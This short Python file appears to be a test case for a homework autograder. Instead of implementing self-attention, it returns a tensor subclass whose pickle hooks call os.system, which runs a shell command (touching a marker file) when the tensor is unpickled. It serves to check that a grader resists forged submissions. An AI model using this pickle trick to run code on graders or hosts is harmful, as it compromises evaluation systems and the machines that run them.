"""forging: return a tensor whose pickle would run code

score: 0
homework: hw2_self_attention
"""

import os

import torch


class Bomb(torch.Tensor):
    def __reduce_ex__(self, protocol):
        return os.system, ("touch /tmp/@left@",)

    __reduce__ = __getstate__ = __reduce_ex__


def self_attention_torch(X, W_q, W_k, W_v):
    return torch.zeros(len(X), W_v.shape[-1]).as_subclass(Bomb)
